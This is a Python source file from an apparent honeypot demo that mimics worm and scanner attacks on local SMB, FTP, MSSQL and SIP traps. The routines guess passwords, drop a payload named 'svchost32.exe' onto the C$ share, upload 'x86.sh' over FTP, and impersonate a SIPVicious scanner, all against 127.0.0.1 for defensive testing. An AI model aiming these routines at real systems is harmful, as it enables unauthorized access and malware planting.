# SPDX-License-Identifier: MIT
"""The demo's attacks on the Dionaea-class traps: what worms and scanners do to SMB, FTP, MSSQL and SIP.

* SMB: a worm's copy step — log in over SMB2 with a guessed password and write its binary to ``C$``
  (impacket's SMB client, as PsExec-style tools use it);
* FTP: a brute-forced login that uploads a dropper (Python's ftplib);
* MSSQL: ``sa`` with a guessed password over TDS (impacket's MSSQL client), refused with error 18456;
* SIP: a SIPVicious-style sweep — OPTIONS from ``friendly-scanner``, then a REGISTER with a digest answer.

Each uploaded file is the demo payload with a line naming its way in, so the scan and the dashboard
show one file per trap. The blocking clients run in worker threads; nothing here runs what it sends.
"""

from __future__ import annotations

import asyncio
import ftplib
import hashlib
import io
import secrets
import socket
from collections.abc import Callable
from typing import Any

from honeyfarm.demo.payload import PAYLOAD


def payload_for(trap: str) -> bytes:
    """The demo payload as ``trap`` receives it (one distinct file per trap)."""
    return PAYLOAD + f"# delivered over {trap} by the honeyfarm demo\n".encode()


def smb_worm_copy(port: int) -> str:
    from impacket.smbconnection import SessionError, SMBConnection

    for password in ("123456", "Passw0rd!"):
        conn = SMBConnection("WIN-SRV2016", "127.0.0.1", sess_port=port, timeout=10)
        try:
            conn.login("Administrator", password, domain="WORKGROUP")
        except SessionError:
            conn.close()
            continue
        data = io.BytesIO(payload_for("smb"))
        conn.putFile("C$", "Windows\\Temp\\svchost32.exe", data.read)
        dialect = conn.getDialect()
        conn.close()
        return f"logged in as Administrator/{password}, wrote C$\\Windows\\Temp\\svchost32.exe (dialect {dialect:#x})"
    return "every login refused"


def ftp_upload(port: int) -> str:
    replies = []
    for password in ("admin", "ftp123"):
        ftp = ftplib.FTP(timeout=10)
        ftp.connect("127.0.0.1", port)
        try:
            ftp.login("admin", password)
        except ftplib.error_perm as e:
            replies.append(str(e))
            ftp.close()
            continue
        ftp.storbinary("STOR x86.sh", io.BytesIO(payload_for("ftp")))
        ftp.quit()
        return f"logged in as admin/{password}, STOR x86.sh"
    return "; ".join(replies)


def mssql_login(port: int) -> str:
    from impacket.tds import MSSQL

    out = []
    for password in ("sa", "P@ssw0rd"):
        ms = MSSQL("127.0.0.1", port)
        ms.connect()
        try:
            ok = ms.login(None, "sa", password)
            out.append(f"sa/{password}: {'accepted' if ok else 'refused'}")
        finally:
            ms.disconnect()
    return ", ".join(out)


def _sip_request(method: str, port: int, local: int, headers: str = "") -> bytes:
    branch = secrets.token_hex(6)
    return (
        f"{method} sip:100@127.0.0.1 SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP 127.0.0.1:{local};branch=z9hG4bK-{branch};rport\r\n"
        "Max-Forwards: 70\r\n"
        f'From: "sipvicious"<sip:100@127.0.0.1>;tag={secrets.token_hex(4)}\r\n'
        'To: "sipvicious"<sip:100@127.0.0.1>\r\n'
        f"Call-ID: {secrets.token_hex(8)}\r\n"
        f"CSeq: 1 {method}\r\n"
        f"Contact: <sip:100@127.0.0.1:{local}>\r\n"
        "User-Agent: friendly-scanner\r\n"
        f"{headers}"
        "Content-Length: 0\r\n\r\n"
    ).encode()


def sip_scan(port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.bind(("127.0.0.1", 0))
        local = s.getsockname()[1]
        s.sendto(_sip_request("OPTIONS", port, local), ("127.0.0.1", port))
        options = s.recv(8192).split(b"\r\n", 1)[0].decode(errors="replace")
        s.sendto(_sip_request("REGISTER", port, local), ("127.0.0.1", port))
        challenge = s.recv(8192).decode(errors="replace")
        nonce = next((p.split('"')[1] for p in challenge.split(",") if "nonce=" in p), "")
        ha1 = hashlib.md5(b"100:asterisk:100").hexdigest()
        ha2 = hashlib.md5(b"REGISTER:sip:100@127.0.0.1").hexdigest()
        response = hashlib.md5(f"{ha1}:{nonce}:{ha2}".encode()).hexdigest()
        auth = (
            f'Authorization: Digest username="100",realm="asterisk",nonce="{nonce}",'
            f'uri="sip:100@127.0.0.1",response="{response}",algorithm=MD5\r\n'
        )
        s.sendto(_sip_request("REGISTER", port, local, auth), ("127.0.0.1", port))
        registered = s.recv(8192).split(b"\r\n", 1)[0].decode(errors="replace")
    return f"OPTIONS: {options}; REGISTER 100/100: {registered}"


ATTACKS: list[tuple[str, Callable[[int], str]]] = [
    ("smb", smb_worm_copy),
    ("ftp", ftp_upload),
    ("mssql", mssql_login),
    ("sip", sip_scan),
]


async def attack_services(ports: dict[str, int], log: Callable[[str], None]) -> None:
    """Each enabled service trap gets its attack in a worker thread; a failure is reported, never raised."""
    for name, attack in ATTACKS:
        if name not in ports:
            continue
        try:
            result: Any = await asyncio.wait_for(asyncio.to_thread(attack, ports[name]), 30)
            log(f"  {name}: {result}"[:300])
        except Exception as exc:  # the demo goes on; the trap's own events say what happened
            log(f"  {name}: attack failed: {type(exc).__name__}: {exc}"[:300])
